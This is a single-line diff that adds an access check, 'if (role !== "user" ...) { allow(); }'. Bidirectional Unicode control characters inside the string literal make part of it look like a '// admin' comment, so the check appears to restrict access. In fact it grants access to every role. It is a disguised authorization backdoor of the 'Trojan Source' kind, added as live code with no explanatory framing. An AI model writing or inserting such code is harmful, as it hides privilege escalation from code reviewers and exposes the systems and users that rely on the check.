@@ -1,0 +1,1 @@
+if (role !== "user‮ ⁦// admin⁩ ⁦") { allow(); }
